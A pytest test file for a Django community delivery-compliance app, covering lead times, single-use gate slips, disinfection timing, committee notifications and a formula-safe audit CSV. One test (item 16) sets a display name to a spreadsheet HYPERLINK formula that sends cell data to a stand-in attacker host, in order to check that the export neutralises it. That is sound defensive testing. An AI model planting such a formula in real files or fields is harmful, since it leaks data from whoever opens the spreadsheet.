"""Issue 13, items 9-12 (third part), 16 and 17 (second half): lead time in hours, one slip lets one vehicle in,
gate codes never in a URL, the committee hears of each filing, a formula-safe audit CSV, verify-slip in +08:00."""

from __future__ import annotations

import csv
import io
from datetime import datetime, time, timedelta

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from accounts.models import Notification
from compliance.models import AuditEvent, DeliveryPolicy, Filing, Slip
from compliance.services.delivery import arrival_record, disinfection_finish, evidence_add
from compliance.services.filings import filing_resubmit, filing_submit
from compliance.services.policy import policy_update, suspension_create
from core.errors import ApplicationError
from groupbuy.models import BuyStatus, GroupBuy

from .conftest import ARRIVAL_END, ARRIVAL_START, MP4_BYTES, SH, filing_kwargs, stored_files
from .test_concurrency import run_together

pytestmark = pytest.mark.django_db


def policy(place, **changes) -> DeliveryPolicy:
    values = {"weekdays": "0123456", "lead_hours": 12, "gate_opens": time(7), "gate_closes": time(19), **changes}
    return DeliveryPolicy.objects.create(community=place.community, **values)


def buy_status(filing) -> str:
    return GroupBuy.objects.get(pk=filing.buy_id).status


def video():
    return SimpleUploadedFile("v.mp4", MP4_BYTES)


# --- 9. lead time: hours from submission to the window's start ----------------------------------------------------


def test_filing_twelve_hours_before_arrival_is_refused_under_a_23_hour_lead_time(place, buy):
    """The old rule counted calendar days: Tuesday 22:00 for Wednesday 10:00 was "a day before"."""
    policy(place, lead_hours=23)
    before = stored_files(settings.MEDIA_ROOT)
    with pytest.raises(ApplicationError) as exc:
        filing_submit(
            actor=place.leader.user,
            buy=buy,
            **filing_kwargs(
                now=ARRIVAL_START - timedelta(hours=12), test_sampled_at=ARRIVAL_START - timedelta(hours=13)
            ),
        )
    assert [v["code"] for v in exc.value.detail["violations"]] == ["lead_time_too_short"]
    assert exc.value.message == "File at least 23 hour(s) before the arrival window starts."
    assert not Filing.objects.exists()
    assert not AuditEvent.objects.exists()
    assert stored_files(settings.MEDIA_ROOT) == before
    buy.refresh_from_db()
    assert buy.status == BuyStatus.ORDERED


def test_lead_time_is_met_to_the_minute(place, buy):
    policy(place, lead_hours=12)
    just_late = ARRIVAL_START - timedelta(hours=12) + timedelta(minutes=1)
    with pytest.raises(ApplicationError) as exc:
        filing_submit(actor=place.leader.user, buy=buy, **filing_kwargs(now=just_late, test_sampled_at=SAMPLED_EARLY))
    assert exc.value.code == "lead_time_too_short"
    filing = filing_submit(
        actor=place.leader.user,
        buy=buy,
        **filing_kwargs(now=ARRIVAL_START - timedelta(hours=12), test_sampled_at=SAMPLED_EARLY),
    )
    assert filing.status == "submitted"


SAMPLED_EARLY = ARRIVAL_START - timedelta(hours=23)


def test_the_longest_lead_time_allowed_can_still_be_met(place, buy):
    """23 h: a test sampled just before filing is still under 24 h old when the window starts."""
    policy(place, lead_hours=23)
    filing = filing_submit(
        actor=place.leader.user,
        buy=buy,
        **filing_kwargs(
            now=ARRIVAL_START - timedelta(hours=23), test_sampled_at=ARRIVAL_START - timedelta(hours=23, minutes=30)
        ),
    )
    assert filing.status == "submitted"


@pytest.mark.parametrize("hours", [24, 48, 336])
def test_policy_no_filing_can_meet_is_refused_by_the_api(place, api, hours):
    """Sampled no later than filing, at most 24 h before arrival: a lead of 24 h or more leaves no moment to sample."""
    policy(place, lead_hours=6)
    response = api(place.committee.user).put(
        f"/api/compliance/communities/{place.community.pk}/policy/",
        {"weekdays": [0, 2], "lead_hours": hours, "gate_opens": "08:00", "gate_closes": "18:00"},
        format="json",
    )
    assert response.status_code == 400
    assert response.json()["code"] == "lead_time_out_of_range"
    saved = DeliveryPolicy.objects.get(community=place.community)
    assert (saved.weekdays, saved.lead_hours) == ("0123456", 6)
    assert not AuditEvent.objects.exists()


def test_policy_api_speaks_hours(place, api):
    response = api(place.committee.user).put(
        f"/api/compliance/communities/{place.community.pk}/policy/",
        {"weekdays": [0, 2], "lead_hours": 23, "gate_opens": "08:00", "gate_closes": "18:00"},
        format="json",
    )
    assert response.status_code == 200, response.json()
    assert response.json()["lead_hours"] == 23
    assert DeliveryPolicy.objects.get(community=place.community).lead_hours == 23
    assert AuditEvent.objects.get().data["after"]["lead_hours"] == 23


def test_policy_no_filing_can_meet_is_refused_by_the_page(place, web):
    policy(place, lead_hours=6)
    response = web(place.committee.user).post(
        reverse("compliance:policy", args=[place.community.pk]),
        {"weekdays": ["0"], "lead_hours": "24", "gate_opens": "08:00", "gate_closes": "18:00"},
    )
    assert response.status_code == 400  # the refusal's status (issue 14), not 200
    assert "The lead time must be between 0 and 23 hours" in response.content.decode()
    assert DeliveryPolicy.objects.get(community=place.community).lead_hours == 6
    assert not AuditEvent.objects.exists()


def test_policy_update_refuses_a_lead_time_over_23_hours(place):
    with pytest.raises(ApplicationError) as exc:
        policy_update(
            actor=place.committee.user,
            community=place.community,
            weekdays=[1],
            lead_hours=24,
            gate_opens=time(8),
            gate_closes=time(17),
        )
    assert exc.value.code == "lead_time_out_of_range"
    assert not DeliveryPolicy.objects.filter(lead_hours=24).exists()


# --- 10. the slip is consumed at arrival, inside its window -------------------------------------------------------


def test_slip_reads_already_used_after_its_goods_arrived(place, approved):
    from compliance.services.gate import slip_verify

    arrival_record(actor=place.receiving_volunteer.user, filing=approved, now=ARRIVAL_START)
    slip = Slip.objects.get(filing=approved)
    assert (slip.consumed_at, slip.consumed_by) == (ARRIVAL_START, place.receiving_volunteer.user)
    # A second vehicle with the same code, still inside the window.
    result = slip_verify(
        actor=place.gate_guard.user, community=place.community, code=slip.code, now=ARRIVAL_START + timedelta(hours=1)
    )
    assert (result.result, result.ok) == ("already_used", False)
    assert AuditEvent.objects.filter(kind="slip_refused").get().data["result"] == "already_used"


def test_slip_of_arrived_goods_reads_already_used_through_the_api_and_the_page(place, live_approved, api, web):
    arrival_record(actor=place.receiving_volunteer.user, filing=live_approved)
    code = live_approved.slip.code
    response = api(place.gate_guard.user).post(
        f"/api/compliance/communities/{place.community.pk}/verify-slip/", {"code": code}, format="json"
    )
    assert response.status_code == 200
    body = response.json()
    assert body["result"] == "already_used"
    assert body["message"] == "Already used — these goods have arrived; do not let another vehicle in"
    assert body["arrived_at"] is not None
    page = web(place.gate_guard.user).post(reverse("compliance:gate"), {"code": code}).content.decode()
    assert "verdict-already_used" in page
    assert "Already used" in page
    assert "This slip was used when the goods arrived at" in page


def test_second_arrival_with_the_same_slip_is_refused(place, approved):
    arrival_record(actor=place.receiving_volunteer.user, filing=approved, now=ARRIVAL_START)
    events = AuditEvent.objects.count()
    with pytest.raises(ApplicationError) as exc:
        arrival_record(actor=place.committee.user, filing=approved, now=ARRIVAL_START + timedelta(minutes=30))
    assert exc.value.code == "slip_already_used"
    approved.refresh_from_db()
    assert (approved.arrived_at, approved.arrived_by) == (ARRIVAL_START, place.receiving_volunteer.user)
    assert Slip.objects.get(filing=approved).consumed_at == ARRIVAL_START
    assert AuditEvent.objects.count() == events


@pytest.mark.parametrize(
    "when",
    [
        ARRIVAL_START - timedelta(hours=1, minutes=1),  # the slip is valid from an hour before the window
        ARRIVAL_END + timedelta(hours=1, minutes=1),  # … to an hour after it
    ],
)
def test_arrival_outside_the_approved_window_is_refused_and_changes_nothing(place, approved, when):
    events = AuditEvent.objects.count()
    with pytest.raises(ApplicationError) as exc:
        arrival_record(actor=place.receiving_volunteer.user, filing=approved, now=when)
    assert exc.value.code == "outside_arrival_window"
    approved.refresh_from_db()
    assert (buy_status(approved), approved.arrived_at) == (BuyStatus.APPROVED, None)
    assert Slip.objects.get(filing=approved).consumed_at is None
    assert AuditEvent.objects.count() == events


def test_arrival_at_the_edges_of_the_slip_window_is_accepted(place, approved):
    arrival_record(actor=place.receiving_volunteer.user, filing=approved, now=ARRIVAL_START - timedelta(hours=1))
    assert buy_status(approved) == BuyStatus.ARRIVED


def test_arrival_outside_the_window_is_refused_through_the_api_and_the_page(place, approved, api, web):
    """`approved` is for 2026-11-25: long past on the real clock the API and the page use."""
    response = api(place.receiving_volunteer.user).post(
        f"/api/compliance/filings/{approved.pk}/arrival/", {"receivers": "小李"}, format="json"
    )
    assert response.status_code == 409
    assert response.json()["code"] == "outside_arrival_window"
    page = web(place.receiving_volunteer.user).post(
        reverse("compliance:arrival", args=[approved.pk]), {"receivers": "小李"}, follow=True
    )
    assert "Arrival can be recorded only while the slip is valid (11-25 09:00 – 11-25 13:00)." in page.content.decode()
    approved.refresh_from_db()
    assert (buy_status(approved), approved.arrived_at) == (BuyStatus.APPROVED, None)
    assert Slip.objects.get(filing=approved).consumed_at is None


def test_second_arrival_is_refused_through_the_api(place, live_approved, api):
    client = api(place.receiving_volunteer.user)
    assert client.post(f"/api/compliance/filings/{live_approved.pk}/arrival/", {}, format="json").status_code == 200
    again = client.post(f"/api/compliance/filings/{live_approved.pk}/arrival/", {}, format="json")
    assert again.status_code == 409
    assert again.json()["code"] == "slip_already_used"


@pytest.mark.django_db(transaction=True)
def test_two_arrivals_with_one_slip_at_once_let_exactly_one_in(place, approved):
    outcomes = run_together(
        lambda: arrival_record(actor=place.receiving_volunteer.user, filing=approved, now=ARRIVAL_START),
        lambda: arrival_record(actor=place.committee.user, filing=approved, now=ARRIVAL_START),
    )
    assert sorted(o if isinstance(o, str) else "arrived" for o in outcomes) == ["arrived", "slip_already_used"]
    assert AuditEvent.objects.filter(kind="goods_arrived").count() == 1
    slip = Slip.objects.get(filing=approved)
    approved.refresh_from_db()
    assert slip.consumed_at == approved.arrived_at == ARRIVAL_START
    assert slip.consumed_by_id == approved.arrived_by_id


@pytest.fixture
def arrived_with_video(place, approved):
    arrival_record(actor=place.receiving_volunteer.user, filing=approved, now=ARRIVAL_START)
    evidence_add(
        actor=place.receiving_volunteer.user, filing=approved, upload=video(), now=ARRIVAL_START + timedelta(minutes=10)
    )
    approved.refresh_from_db()
    return approved


@pytest.mark.parametrize(
    ("finished_at", "now"),
    [
        (ARRIVAL_START - timedelta(minutes=5), ARRIVAL_START + timedelta(minutes=30)),  # before arrival
        (ARRIVAL_START + timedelta(minutes=5), ARRIVAL_START + timedelta(minutes=30)),  # before its evidence
        (ARRIVAL_START + timedelta(minutes=31), ARRIVAL_START + timedelta(minutes=30, seconds=30)),  # in the future
    ],
)
def test_disinfection_time_outside_arrival_evidence_and_now_is_refused(place, arrived_with_video, finished_at, now):
    events = AuditEvent.objects.count()
    with pytest.raises(ApplicationError) as exc:
        disinfection_finish(
            actor=place.receiving_volunteer.user, filing=arrived_with_video, finished_at=finished_at, now=now
        )
    assert exc.value.code == "disinfection_time_out_of_range"
    arrived_with_video.refresh_from_db()
    assert (buy_status(arrived_with_video), arrived_with_video.disinfected_at) == (BuyStatus.ARRIVED, None)
    assert AuditEvent.objects.count() == events


def test_disinfection_time_after_the_evidence_is_accepted(place, arrived_with_video):
    finished = ARRIVAL_START + timedelta(minutes=10)
    disinfection_finish(
        actor=place.receiving_volunteer.user, filing=arrived_with_video, finished_at=finished, now=finished
    )
    arrived_with_video.refresh_from_db()
    assert (buy_status(arrived_with_video), arrived_with_video.disinfected_at) == (BuyStatus.DISINFECTED, finished)


def test_disinfection_backdated_before_the_evidence_is_refused_through_the_api_and_the_page(
    place, live_approved, api, web
):
    arrival_record(actor=place.receiving_volunteer.user, filing=live_approved)
    evidence_add(actor=place.receiving_volunteer.user, filing=live_approved, upload=video())
    backdated = timezone.localtime(timezone.now() - timedelta(minutes=10))
    response = api(place.receiving_volunteer.user).post(
        f"/api/compliance/filings/{live_approved.pk}/disinfected/",
        {"finished_at": backdated.isoformat()},
        format="json",
    )
    assert response.status_code == 400
    assert response.json()["code"] == "disinfection_time_out_of_range"
    page = web(place.receiving_volunteer.user).post(
        reverse("compliance:disinfected", args=[live_approved.pk]),
        {"finished_at": backdated.strftime("%Y-%m-%dT%H:%M")},
        follow=True,
    )
    assert "Disinfection must finish between" in page.content.decode()
    live_approved.refresh_from_db()
    assert (buy_status(live_approved), live_approved.disinfected_at) == (BuyStatus.ARRIVED, None)


# --- 11. gate codes travel in POST bodies only --------------------------------------------------------------------


def test_gate_get_with_a_code_checks_nothing_and_records_nothing(place, live_approved, web):
    events = AuditEvent.objects.count()
    response = web(place.gate_guard.user).get(reverse("compliance:gate"), {"code": live_approved.slip.code})
    assert response.status_code == 200
    body = response.content.decode()
    assert 'role="status"' not in body  # no verdict shown
    assert 'method="post"' in body
    assert AuditEvent.objects.count() == events


def test_gate_post_checks_the_code_and_records_it(place, live_approved, web):
    events = AuditEvent.objects.count()
    body = web(place.gate_guard.user).post(reverse("compliance:gate"), {"code": live_approved.slip.code})
    assert "verdict-valid" in body.content.decode()
    assert AuditEvent.objects.count() == events + 1
    assert AuditEvent.objects.order_by("-seq").first().kind == "slip_verified"


def test_gate_post_for_another_communitys_gate_is_refused(place, other_place, live_approved, web):
    events = AuditEvent.objects.count()
    response = web(place.gate_guard.user).post(
        reverse("compliance:gate"), {"c": other_place.community.pk, "code": live_approved.slip.code}
    )
    assert response.status_code == 403
    assert AuditEvent.objects.count() == events


def test_slip_qr_puts_the_code_in_the_fragment_never_in_the_query(place, live_approved, web, monkeypatch):
    from compliance.views import leader

    encoded = []
    monkeypatch.setattr(leader, "qr_svg", lambda data: encoded.append(data) or "<svg></svg>")
    assert web(place.leader.user).get(reverse("compliance:filing_detail", args=[live_approved.pk])).status_code == 200
    assert encoded == [f"http://testserver{reverse('compliance:gate')}#code={live_approved.slip.code}"]


# --- 12. the committee hears of each filing -----------------------------------------------------------------------


def test_committee_is_told_once_when_a_filing_is_submitted_and_resubmitted(place, buy):
    filing = filing_submit(actor=place.leader.user, buy=buy, **filing_kwargs())
    notices = Notification.objects.filter(kind="filing_submitted")
    assert list(notices.values_list("user_id", "params")) == [
        (place.committee.user.pk, {"title": "Vegetable box round 3", "arrival": "11-25 10:00"})
    ]
    assert notices.get().link == reverse("compliance:filing_detail", args=[filing.pk])

    later = datetime(2026, 11, 25, 12, 30, tzinfo=SH)  # a new window, still within 24 h of the test
    filing_resubmit(
        actor=place.leader.user,
        filing=filing,
        **filing_kwargs(arrival_start=later, arrival_end=later + timedelta(hours=1)),
    )
    assert notices.count() == 2
    assert sorted(notices.values_list("dedupe_key", flat=True)) == [
        f"filing:{filing.pk}:rev1:submitted",
        f"filing:{filing.pk}:rev2:submitted",
    ]
    assert not Notification.objects.filter(kind="filing_submitted", user=place.leader.user).exists()


def test_a_refused_filing_tells_nobody(place, buy):
    with pytest.raises(ApplicationError):
        filing_submit(actor=place.leader.user, buy=buy, **filing_kwargs(now=ARRIVAL_START))
    assert not Notification.objects.filter(kind="filing_submitted").exists()


def test_leader_who_is_also_committee_is_not_told_of_their_own_filing(place, buy):
    place.leader.is_committee = True
    place.leader.save()
    filing_submit(actor=place.leader.user, buy=buy, **filing_kwargs())
    assert set(Notification.objects.filter(kind="filing_submitted").values_list("user_id", flat=True)) == {
        place.committee.user.pk
    }


def test_committee_is_told_of_a_filing_made_through_the_api(place, buy, live_policy, api):
    from .test_api import filing_payload

    response = api(place.leader.user).post(
        f"/api/compliance/buys/{buy.pk}/filing/", filing_payload(), format="multipart"
    )
    assert response.status_code == 201
    notice = Notification.objects.get(kind="filing_submitted")
    assert notice.user_id == place.committee.user.pk


# --- 16. the audit CSV is formula-safe ----------------------------------------------------------------------------


def test_audit_csv_neutralises_a_formula_in_the_actor_name(place, web):
    committee = place.committee.user
    committee.display_name = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    committee.save()
    suspension_create(
        actor=committee,
        community=place.community,
        starts_at=timezone.now(),
        ends_at=timezone.now() + timedelta(days=1),
        reason="case found",
    )
    response = web(committee).get(reverse("compliance:audit_csv", args=[place.community.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, row = rows[0], rows[1]
    actor = row[header.index("actor")]
    assert actor == "'" + committee.display_name
    assert row[header.index("kind")] == "suspension_placed"


# --- 17. verify-slip answers in +08:00 ----------------------------------------------------------------------------


def test_verify_slip_answers_times_in_the_site_time_zone(place, live_approved, api):
    response = api(place.gate_guard.user).post(
        f"/api/compliance/communities/{place.community.pk}/verify-slip/",
        {"code": live_approved.slip.code},
        format="json",
    )
    body = response.json()
    assert body["result"] == "valid"
    assert body["arrival_start"] == timezone.localtime(live_approved.arrival_start).isoformat()
    assert body["arrival_start"].endswith("+08:00")
    assert body["arrival_end"].endswith("+08:00")
    detail = api(place.leader.user).get(f"/api/compliance/filings/{live_approved.pk}/").json()
    assert body["arrival_start"] == detail["arrival_start"]
